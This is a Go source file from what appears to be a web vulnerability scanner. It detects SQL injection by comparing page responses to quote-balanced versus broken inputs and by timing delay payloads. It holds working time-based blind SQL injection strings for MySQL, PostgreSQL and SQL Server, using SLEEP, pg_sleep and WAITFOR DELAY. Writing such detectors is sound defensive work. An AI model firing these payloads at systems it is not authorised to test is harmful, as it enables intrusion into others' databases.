package web

import (
	"fmt"
	"slices"

	"github.com/vedette/vedette/internal/engine/web/httpwire"
)

// steady says that the page does not change by itself.
func (s *scan) steady(sp spot, usual *httpwire.Response) bool {
	again := s.send(sp, sp.value())
	return again != nil && shapeOf(usual, "").similar(shapeOf(again, "")) >= 0.98 && again.Status == usual.Status
}

// injectQuote looks for statements that break without a message. A string takes its own quote doubled and breaks with
// a single one, so that the answer follows whether their number is even. The place of an ORDER BY takes a further term
// that reads nothing, and breaks with one that reads a table that is not there. A number, as that of a LIMIT, takes a
// comment, and breaks with the end of one that did not begin.
func (s *scan) injectQuote(sp spot, usual *httpwire.Response) bool {
	if !s.steady(sp, usual) {
		return false
	}
	if numeric(sp.value()) && s.breaks(sp, usual, "comments", []string{"/**/", "/*1*/", " /*2*/"}, []string{"*/", "/*1*/*/", " /*2*/)"}) {
		return true
	}
	table := "vq" + randomName(8)
	return s.breaks(sp, usual, "quotes", []string{"''", "''''", "''''''"}, []string{"'", "'''", "'''''"}) ||
		s.breaks(sp, usual, "terms of an ORDER BY", []string{",(SELECT 1)", ",(SELECT 2)"}, []string{",(SELECT 1 FROM " + table + ")", ",(SELECT 2 FROM " + table + ")"})
}

// breaks says whether the answer stays the usual one with each of the whole endings and fails alike with the broken.
func (s *scan) breaks(sp spot, usual *httpwire.Response, what string, whole, broken []string) bool {
	var first *httpwire.Response
	for i := range whole {
		no := s.send(sp, sp.value()+broken[i])
		if no == nil || !failed(usual, no) || first != nil && !alike(first, no) {
			return false
		}
		first = no
		if yes := s.send(sp, sp.value()+whole[i]); yes == nil || yes.Status >= 500 || !alike(usual, yes) {
			return false
		}
	}
	s.report(s.found("web.sqli", "web-sql-injection", sp.where(), 95, first, "",
		fmt.Sprintf("The parameter %s reaches a statement: %s keep it whole or break it, and the answer follows each time.", sp.name(), what)))
	return true
}

// failed says that an answer is another than the usual one, by its status or by what it shows.
func failed(usual, r *httpwire.Response) bool {
	return r.Status != usual.Status && r.Status >= 400 || r.Status == usual.Status && !alike(usual, r)
}

// waits gives the form that makes the answer late by as much as it says, and prompt with no wait, two times more.
func (s *scan) waits(sp spot, forms []string) (string, *httpwire.Response) {
	for _, form := range forms {
		late := s.send(sp, sp.value()+fmt.Sprintf(form, delay))
		if late != nil && late.Duration.Seconds() >= delay && s.waitsAgain(sp, form) {
			return form, late
		}
	}
	return "", nil
}

func (s *scan) waitsAgain(sp spot, form string) bool {
	for i := range 2 {
		prompt := s.send(sp, sp.value()+fmt.Sprintf(form, 0))
		more := s.send(sp, sp.value()+fmt.Sprintf(form, delay-1+i*2))
		if prompt == nil || more == nil || prompt.Duration.Seconds() > undelayed || more.Duration.Seconds() < float64(delay-1+i*2) {
			return false
		}
	}
	return true
}

// slow says that the answers of this spot take long by themselves, so that delays prove nothing.
func (s *scan) slow(sp spot) bool {
	r := s.send(sp, sp.value())
	return r == nil || r.Duration.Seconds() > undelayed/2
}

// textDelays make databases wait from within a string, wherever in the statement it stands; %d stands for the seconds.
var textDelays = []string{
	"'+(SELECT 1 FROM (SELECT(SLEEP(%d)))x)+'", "'||(SELECT 1 FROM pg_sleep(%d))||'", "' AND SLEEP(%d)-- -", "'; WAITFOR DELAY '0:0:%d'-- ",
}

// sqlDelays do so from anywhere.
var sqlDelays = slices.Concat(textDelays, []string{
	"-(SELECT 0 FROM pg_sleep(%d))", " AND SLEEP(%d)", "' AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)-- -", " AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)",
	"') AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)-- -", "\" AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)-- -", "' || pg_sleep(%d)-- ",
	"; SELECT pg_sleep(%d)-- ", "'; SELECT pg_sleep(%d)-- ", " AND 1=(SELECT 1 FROM pg_sleep(%d))", "' AND 1=(SELECT 1 FROM pg_sleep(%d))-- ",
	"; WAITFOR DELAY '0:0:%d'-- ",
})
